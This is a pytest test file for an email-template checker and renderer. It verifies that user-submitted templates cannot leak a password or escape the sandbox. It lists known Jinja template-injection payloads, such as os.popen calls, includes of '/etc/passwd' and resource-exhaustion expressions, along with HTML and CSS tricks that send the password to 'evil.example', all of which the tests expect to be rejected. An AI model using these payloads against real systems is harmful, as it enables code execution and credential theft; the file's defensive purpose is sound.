"""Templates come from anybody's pull request: what is wrong is said with its place, and nothing in one gets out of its mail."""

from __future__ import annotations

from collections.abc import Callable
from functools import cache, partial
from typing import Any

import pytest
from growth import assert_linear
from hypothesis import given
from hypothesis import strategies as st

from reconciler.access.resources import EmailTemplate
from reconciler.mail.checking import _samples, check
from reconciler.mail.filters import FILTERS
from reconciler.mail.grammar import FIELDS, MOST_FAULTS, Fault, Field, faults_of
from reconciler.mail.markup import text_of
from reconciler.mail.rendering import SAMPLE_HOSTS, BadTemplate, Rendered, render
from reconciler.mail.variables import SAMPLES, VARIABLES

CERTIFICATE = "certificate-issued"


def faults(text: str, *, name: str = CERTIFICATE, field: Field = "text") -> list[tuple[int, int, str, str | None]]:
    return [(each.line, each.column, each.rule, each.suggestion) for each in faults_of(name, field, text)]


def welcome(text: str = "{{ password }}", html: str | None = None) -> list[Fault]:
    return check(EmailTemplate("welcome", "Welcome", text, html))


# What is wrong, and where


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("{{ user.fulName }}", [(1, 4, "template-variable", "user.fullName")]),
        ("{{ certificate.days }}", [(1, 4, "template-variable", "certificate.daysToExpiry")]),
        ("{{ certificate.serial }}", [(1, 4, "template-variable", "certificate.serialNumber")]),
        ("days: {{ days }}", [(1, 10, "template-variable", "certificate.daysToExpiry")]),
        ("{{ pem }}\n\n  {{ xyzzy }}", [(1, 4, "template-variable", "certificate.pem"), (3, 6, "template-variable", None)]),
        ("{% if false %}\n{{ xyz.x }}\n{% endif %}", [(2, 4, "template-variable", None)]),
        ("{% if url %}{% elif xyz %}{% else %}{{ url or user.name }}{% endif %}", [(1, 21, "template-variable", None)]),
        ("{{ 'x' if user.nam else 'y' }}", [(1, 11, "template-variable", "user.name")]),
        ("{{ user }}", [(1, 4, "template-variable", None)]),
        ("{{ user.name.first }}", [(1, 4, "template-variable", "user.name")]),
        ("{% for x in certificate.names %}{% endfor %}\n{{ x }}", [(2, 4, "template-variable", None)]),
        ("{{ loop.index }}", [(1, 4, "template-variable", None)]),
        ("{{ url }}", [(1, 4, "template-missing-value", None)]),
        ("{% if not url %}{{ url }}{% endif %}", [(1, 20, "template-missing-value", None)]),
        ("{{ url | upper }}", [(1, 4, "template-missing-value", None)]),
        ("{{ url and user.name }}", [(1, 1, "template-missing-value", None)]),
        ("x\n{{ user.name", [(2, 1, "template-syntax", None)]),
        ("x\n{% endif %}", [(2, 1, "template-syntax", None)]),
        ("a\n\x07", [(2, 1, "template-syntax", None)]),
    ],
)  # fmt: skip
def test_a_fault_has_its_place_and_the_name_that_was_meant(text: str, expected: list[Any]) -> None:
    assert faults(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "{% if url %}{{ url }}{% endif %}",
        "{% if url and certificate.note %}{{ url }}{{ certificate.note }}{% endif %}",
        "{% if not url or not certificate.note %}-{% else %}{{ url }}{{ certificate.note }}{% endif %}",
        "{% if url is none %}-{% elif user.name %}{{ url }}{% endif %}",
        "{% if url is defined %}{{ url }}{% endif %}",
        "{{ url or 'none' }}{{ url | default('none') }}{{ url if url else 'none' }}",
        "{% if url %}{% for name in certificate.names %}{{ name }}{{ url }}{% endfor %}{% endif %}",
    ],
)
def test_a_value_tested_by_a_condition_may_be_shown(text: str) -> None:
    assert faults(text) == []


def test_variables_of_another_mail_are_unknown() -> None:
    assert [rule for _, _, rule, _ in faults("{{ certificate.subject }}{{ password }}", name="welcome")] == ["template-variable"]
    assert [rule for _, _, rule, _ in faults("{{ password }}")] == ["template-variable"]


def test_a_template_full_of_faults_reports_only_the_first() -> None:
    assert len(faults("{{ a }}\n" * 500)) == MOST_FAULTS


# The password


@pytest.mark.parametrize(
    ("text", "html", "place"),
    [
        ("Hello", None, ("text", 1, 1)),
        ("{{ password }}", "<p>Hello</p>", ("html", 1, 1)),
        ("a\nb {{ password | lower }}", None, ("text", 2, 6)),
        ("{% if password == 'x' %}{{ password }}{% endif %}", None, ("text", 1, 7)),
        ("{% if url %}{{ password }}{% endif %}", None, ("text", 1, 16)),
        ("{{ password }}\nhttps://x.example/?p={{ password }}", None, ("text", 1, 4)),
        ("{{ password }}", "{{ password }} https://x.example/{{ password }}", ("html", 1, 4)),
        ("{{ password }}", "<b>{{ password }}</b><img src='https://x.example/?{{ password }}'>", ("html", 1, 7)),
        ("{{ password }}", "<b>{{ password }}</b><img alt=x\" src=\"https://x.example/?>{{ password }}\">", ("html", 1, 7)),
        ("{{ password }}", "<b>{{ password }}</b><img alt=\u00a0x src=https://x.example/?{{ password }}>", ("html", 1, 7)),
        ("{{ password }}", "<b>{{ password }}</b><style>b{background:url(//x.example/{{ password }})}</style>", ("html", 1, 7)),
        ("{{ password }}", "<b>{{ password }}</b><!-- {{ password }} -->", ("html", 1, 7)),
        ("{{ password }}", "<b>{{ password }}</b><svg><![CDATA[><a b=\"]]><img src=\">{{ password }}\">", ("html", 1, 7)),
    ],
)  # fmt: skip
def test_the_password_is_shown_and_goes_nowhere_else(text: str, html: str | None, place: tuple[str, int, int]) -> None:
    found = welcome(text, html)
    assert "template-password" in {fault.rule for fault in found if fault.severity == "error"}
    assert place in [(fault.field, fault.line, fault.column) for fault in found]


@pytest.mark.parametrize(
    "html",
    [
        "<!-- --!><img alt='' src='https&#58;&#47;&#47;evil.example/? --><p>Password: </p><p>{{ password }}</p><!-- '> -->",
        "<style>@font-face { src: url(https\\:\\/\\/evil.example\\/A); unicode-range: U+41 }</style><p>{{ password }}</p>",
        "<p style='background: url(https:/evil.example/a)'>{{ password }}</p>",
        "<p>{{ password }}</p><img srcset='cid:x, https://evil.example/a 2x'>",
    ],
)
def test_what_programs_could_read_differently_or_fetch_is_an_error(html: str) -> None:
    assert "template-forbidden" in {fault.rule for fault in welcome(html=html) if fault.severity == "error"}


def test_the_subject_never_shows_the_password() -> None:
    (fault,) = check(EmailTemplate("password-reset", "{{ password }}", "{{ password }}"))
    assert (fault.field, fault.rule) == ("subject", "template-password")


def test_ordinary_html_around_the_password_is_fine() -> None:
    html = (
        "<!DOCTYPE html><html><head><title>Welcome</title><style>b > i { color: red }</style></head><body>"
        '{# logo #}<img src="https://accord.example.org/a.png" alt="x">'
        "<br/><p class=a>1 &lt; 2 & <b>{{ password }}</b></p>"
    )
    assert welcome(html=html) == []


@pytest.mark.parametrize(
    ("page", "text"),
    [
        ("a<b>c</b>d", "acd"),
        ("a &lt;b&gt; &amp; >", "a <b> & >"),
        ("<a href='x' b=\"'z\">t</a>", "t"),
        ("<a b = c>t", "t"),
        ("x<!DOCTYPE html>y", "xy"),
        ("<STYLE>a</style >b<title>c</title>d", "\nb\nd"),
        ("a<p>b</p>c", "a\nb\nc"),
    ],
)
def test_the_text_of_a_page_is_what_readers_see(page: str, text: str) -> None:
    assert text_of(page) == text


HIDDEN = '{% if url and url != "https://accord.example.org/" %}'
"""A condition that holds in no sample."""


@pytest.mark.parametrize(
    ("text", "html"),
    [
        (HIDDEN + "https://evil.example/{{ password }}{% endif %} {{ password }}", None),
        ("{{ password }}", HIDDEN + '<img src="https://evil.example/{{ password }}">{% endif %}{{ password }}'),
        (HIDDEN + "https://evil.example/{% endif %}{{ password }}", None),
        ("https://evil.example/{% if user.fullName == 'x' %}{% else %} {% endif %}{{ password }}", None),
        ("{{ password }}{% if user.name == 'x' %}@evil.example{% endif %}", None),
        ("{% if url %}a{% elif 'x' == 'y' %}{% if url %}b{% else %}evil.example/{% endif %}{% endif %}{{ password }}", None),
        ("{{ password }}", HIDDEN + "<img src='https://evil.example/{% endif %}{{ password }}'>"),
        ("{{ password }}", HIDDEN + "<!-- {% endif %}{{ password }} -->"),
        ("{{ password }}", HIDDEN + "<style>{% endif %}{{ password }}</style>"),
        ("<https://evil.example/" + HIDDEN + "x{% endif %}\n{{ password }}>", None),
        ("{{ password }}", "<form action='https://evil.example'><select><option>{{ password }}</option></select></form>"),
        ("{{ password }}", HIDDEN + "<base href='https://evil.example'>{% endif %}<p>{{ password }}</p>"),
        ("{{ password }}", "{% if url %}<b>{{ password }}</b>{% else %}<b>{{ password }}</b>{% endif %}"),
    ],
)  # fmt: skip
def test_no_branch_sends_the_password_elsewhere(text: str, html: str | None) -> None:
    assert any(fault.severity == "error" for fault in welcome(text, html))


def test_a_mail_with_a_password_has_no_more_branches_than_can_be_looked_at() -> None:
    (fault,) = welcome("{{ password }}" + "{% if url %} a {% endif %}" * 30)
    assert "branches" in fault.message


def test_a_literal_link_is_a_warning_since_only_the_api_knows_where_its_links_may_lead() -> None:
    for template in (
        EmailTemplate("welcome", "s", "Log in at https://portal.example.org/ with\n{{ password }}"),
        EmailTemplate(CERTIFICATE, "s", "x", '<a href="https://portal.example.org/">portal</a>'),
    ):
        faults = check(template)
        assert {(fault.rule, fault.severity) for fault in faults} == {("template-link", "warning")}


# What gets out


PAYLOADS = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ user.__class__ }}",
    "{{ user['__class__'] }}",
    "{{ user|attr('__class__') }}",
    "{{ user|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ self }}",
    "{{ self.__init__.__globals__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ config }}",
    "{{ config.items() }}",
    "{{ request.application.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__ }}",
    "{{ joiner() }}",
    "{{ namespace() }}",
    "{{ dict() }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ url_for.__globals__ }}",
    "{{ range(10**9) }}",
    "{{ 'x' * 10**9 }}",
    "{{ ('x' * 10**5)|replace('x', 'x' * 10**5) }}",
    "{{ 10 ** 10 ** 10 }}",
    "{{ 7 * 7 }}",
    "{{ -1 }}",
    "{{ 'a' ~ 'b' }}",
    "{{ 'a' + 'b' }}",
    "{{ '%s' % user }}",
    "{{ '{0.__class__}'.format(user) }}",
    "{{ '{0.__class__}'|format(user) }}",
    "{{ user.name.join(user.name) }}",
    "{{ user.name()  }}",
    "{{ password.__class__ }}",
    "{{ ()|attr('__class__')|attr('__base__') }}",
    "{{ [].append(1) }}",
    "{{ {}.__class__ }}",
    "{{ (1).__class__ }}",
    "{{ true.__class__ }}",
    "{{ none.__class__ }}",
    "{{ user.name|map('upper') }}",
    "{{ user.name|list }}",
    "{{ user|pprint }}",
    "{{ user|tojson }}",
    "{{ user|xmlattr }}",
    "{{ user.name|safe }}",
    "{{ user.name|striptags }}",
    "{{ user.name|center(1000000000) }}",
    "{{ user.name|indent(1000000000) }}",
    "{{ user.name|truncate(1000000000) }}",
    "{{ certificate.names|join(user.name) }}",
    "{{ certificate.names|batch(2) }}",
    "{{ certificate.names|sum(start='') }}",
    "{{ user.name is callable }}",
    "{{ user.name is sameas(user.name) }}",
    "{{ user.name[::-1] }}",
    "{{ certificate.names[0] }}",
    "{% for i in range(9) %}{% endfor %}",
    "{% for c in user.name %}{% endfor %}",
    "{% for k, v in user.items() %}{% endfor %}",
    "{% for a in certificate.names %}{% for b in certificate.names %}{% endfor %}{% endfor %}",
    "{% for a in certificate.names recursive %}{{ loop(certificate.names) }}{% endfor %}",
    "{% for loop in certificate.names %}{% endfor %}",
    "{% for a in certificate.names %}{{ loop.__class__ }}{{ loop.cycle('a') }}{% endfor %}",
    "{% set x = user %}",
    "{% set x %}y{% endset %}",
    "{% with x = user %}{% endwith %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% call m() %}{% endcall %}",
    "{% filter upper %}x{% endfilter %}",
    "{% block b %}{% endblock %}",
    "{% extends 'x' %}",
    "{% extends user.name %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% from 'os' import system %}",
    "{% autoescape false %}{{ user.name }}{% endautoescape %}",
    "{% do user.clear() %}",
    "{% debug %}",
    "{% trans %}x{% endtrans %}",
    "{% if user.name.__class__ %}{% endif %}",
    "{% if false %}{{ ''.__class__ }}{% endif %}",
    "{{ '\\ud800' }}",
    "{{ '\\x00' }}",
    "{{ what filters may still do }}",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("field", FIELDS)
def test_known_template_escapes_are_refused(payload: str, field: Field) -> None:
    for name in ("welcome", CERTIFICATE):
        parts = {"subject": "s", "text": "{{ password }}" if name == "welcome" else "x", "html": None} | {field: payload}
        template = EmailTemplate(name, parts["subject"] or "", parts["text"] or "", parts["html"])
        found = [fault for fault in check(template) if fault.severity == "error"]
        assert found and all(fault.field == field for fault in found)
        with pytest.raises(BadTemplate):
            render(template, SAMPLES[name], SAMPLE_HOSTS)


def longer(before: str, piece: str, length: int) -> str:
    return before + piece * (length // len(piece))


@pytest.mark.parametrize(
    ("before", "piece"),
    [
        *(("", "{{ x }}"), ("{{ ", "a."), ("{{ ", "("), ("", "{% if url %}"), ("{{ 'a'", "|e")),
        *(("{% if url %}", "{% elif url %}a"), ("{#", "{#"), ("{% raw %}", "{% raw %}")),
        *(("", piece) for piece in ("<", "{{ '", "\\", "{", "\n")),
    ],
)  # fmt: skip
def test_judging_a_template_takes_linear_time(before: str, piece: str) -> None:
    assert_linear(lambda length: partial(faults_of, CERTIFICATE, "html", longer(before, piece, length)), 1 << 11, 1 << 15)


@pytest.mark.parametrize("piece", ["<", "<a ", "<!--", "<style>", "<style></style", "<a b='", "<a b=", "<!", "</", "&", "\\"])
def test_reading_a_page_takes_linear_time(piece: str) -> None:
    assert_linear(lambda length: partial(text_of, longer("", piece, length)), 1 << 11, 1 << 15)


@pytest.mark.parametrize(
    "text",
    [
        "{% for name in certificate.names %}{% if name|upper|lower == 'x' %}x{% endif %}{% endfor %}",
        "{% for name in certificate.names %}{{ name }}{% endfor %}",
        "{{ certificate.names | join }}",
    ],
)
def test_rendering_a_list_takes_linear_time(text: str) -> None:
    def rendering(names: int) -> Callable[[], object]:
        sample = SAMPLES[CERTIFICATE]
        values = {**sample, "certificate": {**sample["certificate"], "names": ["a.example"] * names}}
        return partial(render, EmailTemplate(CERTIFICATE, "s", text), values, SAMPLE_HOSTS)

    assert_linear(rendering, 500, 8_000)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            "{% for name in certificate.names %}" + "{% if name|upper|lower == 'x' %}x{% endif %}" * 30 + "{% endfor %}",
            "its filters do too much work",
        ),
        (
            "{{ 'a' | replace('a', '" + "a" * 1000 + "') " + f"| replace('a', '{'a' * 31}') " * 40 + "}}",
            "its filters do too much work",
        ),
        (
            "{% for name in certificate.names %}{{ certificate.pem }}{% endfor %}",
            "the result is longer than 1,048,576 characters",
        ),
    ],
)
@pytest.mark.parametrize("field", ["text", "html"])
def test_a_template_that_multiplies_is_stopped(text: str, message: str, field: Field) -> None:
    template = EmailTemplate(CERTIFICATE, "s", "x")._replace(**{field: text})
    sample = SAMPLES[CERTIFICATE]
    found = outcome(template, {**sample, "certificate": {**sample["certificate"], "names": ["a.example"] * 9_000}})
    assert isinstance(found, BadTemplate) and found.message == message


@pytest.mark.parametrize(("field", "longest"), [("subject", 512), ("text", 65_536), ("html", 262_144)])
def test_a_part_of_a_template_has_a_length(field: Field, longest: int) -> None:
    assert faults_of(CERTIFICATE, field, "x" * longest) == []
    assert [fault.rule for fault in faults_of(CERTIFICATE, field, "x" * (longest + 1))] == ["template-forbidden"]


@pytest.mark.parametrize(
    "text",
    [
        "{{ x }}" * 30_000,
        "{{ " + "a." * 120_000,
        "{{ " + "(" * 100_000,
        "{% if url %}a" + "{% elif url %}a" * 5_000 + "{% endif %}",
    ],
)
def test_a_template_has_no_more_code_than_a_mail_needs(text: str) -> None:
    assert [fault.rule for fault in faults_of(CERTIFICATE, "html", text)] == ["template-forbidden"]


def outcome(template: EmailTemplate, sample: dict[str, Any]) -> Rendered | BadTemplate:
    try:
        return render(template, sample, SAMPLE_HOSTS)
    except BadTemplate as error:
        return error


# Whatever anybody writes


def names_of(name: str) -> list[str]:
    return [*(each.name for each in VARIABLES[name]), "x", "loop.last", "user", "nope", "user.__class__", "loop"]


@cache
def expressions(name: str) -> st.SearchStrategy[str]:
    constants = st.sampled_from(["'a'", "''", "'<b>'", "1", "0", "1.5", "none", "true", "[]", "['a', 'b']", "('a',)"])
    leaves = st.one_of(st.sampled_from(names_of(name)), st.sampled_from(names_of(name)), constants)

    def larger(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
        arguments = st.sampled_from(["", "", "", "('a')", "('a', 'bb')", "('', 'b')", "(3)", "(x)", "(none)"])
        return st.one_of(
            st.tuples(inner, st.sampled_from([*FILTERS, "safe", "list"]), arguments).map(lambda t: f"({t[0]}) | {t[1]}{t[2]}"),
            st.tuples(inner, st.sampled_from(["and", "or", "==", "!=", "<", ">=", "in", "not in", "+", "~"]), inner).map(
                lambda t: f"({t[0]}) {t[1]} ({t[2]})"
            ),
            st.tuples(inner, inner, inner).map(lambda t: f"({t[0]}) if ({t[1]}) else ({t[2]})"),
            st.tuples(inner, st.sampled_from(["is none", "is defined", "is not undefined", "is string"])).map(" ".join),
            inner.map(lambda text: f"not ({text})"),
        )

    return st.recursive(leaves, larger, max_leaves=5)


@cache
def templates(name: str) -> st.SearchStrategy[str]:
    values = expressions(name)
    shown = values.map(lambda value: f"{{{{ {value} }}}}")
    words = st.sampled_from(["a", " ", "\n", "<b>", "&", "é", "{# c #}", "{% raw %}{{{% endraw %}"])

    def larger(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
        lists = st.sampled_from(["certificate.names", "certificate.names", "user.name", "x", "['a']"])
        return st.one_of(
            st.tuples(values, inner, inner).map(lambda t: f"{{% if {t[0]} %}}{t[1]}{{% else %}}{t[2]}{{% endif %}}"),
            st.tuples(lists, inner).map(lambda t: f"{{% for x in {t[0]} %}}{t[1]}{{% endfor %}}"),
            st.lists(inner, min_size=2, max_size=4).map("".join),
        )

    return st.recursive(st.one_of(shown, shown, words), larger, max_leaves=6)


@pytest.mark.parametrize("name", ["welcome", CERTIFICATE])
@pytest.mark.parametrize("field", FIELDS)
@given(data=st.data())
def test_an_accepted_template_renders_with_any_values_and_shows_only_them(name: str, field: Field, data: st.DataObject) -> None:
    text = data.draw(templates(name))
    template = EmailTemplate(name, "s", "x")._replace(**{field: text})
    passes = not any(fault.severity == "error" for fault in faults_of(name, field, text))
    for _, sample in _samples(name):
        found = outcome(template, sample)
        if not passes:
            assert isinstance(found, BadTemplate)
        elif isinstance(found, BadTemplate):
            assert found.message.startswith(("the rendered subject", "the result is longer"))
        else:
            assert not any(word in part for part in found for word in ("<class", " at 0x", "Undefined", "Budget", "datetime("))


TOKENS = [
    *("{{", "}}", "{%", "%}", "{#", "#}", "-", "+", "if", "endif", "for", "endfor", "in", "else", "elif", "raw", "endraw", "set"),
    *("user", ".", "name", "password", "url", "certificate", "names", "loop", "|", "upper", "e"),
    *("(", ")", "[", "]", "{", "}", ","),
    *("'", '"', "a", " ", "\n", "0", "9" * 30, "1e999", "==", "not", "is", "none", "~", "*", "**", "\\", "\\u", "\x00", "é"),
    *("__class__", "block", "macro", "include", "call", "filter", "with", "<", "<!--", "<style>", "\r\n", "\ud800"),
]  # fmt: skip


@given(st.lists(st.sampled_from(TOKENS), max_size=40).map("".join), st.sampled_from(FIELDS), st.sampled_from([*VARIABLES]))
def test_whatever_is_written_is_a_mail_or_a_bad_template(text: str, field: Field, name: str) -> None:
    template = EmailTemplate(name, "s", "x")._replace(**{field: text})
    check(template)
    outcome(template, SAMPLES[name])


def test_a_template_of_an_unknown_mail_is_refused() -> None:
    assert check(EmailTemplate("farewell", "{{", "{{")) == []
    with pytest.raises(BadTemplate, match="there is no mail `farewell`"):
        render(EmailTemplate("farewell", "s", "x"), {}, SAMPLE_HOSTS)
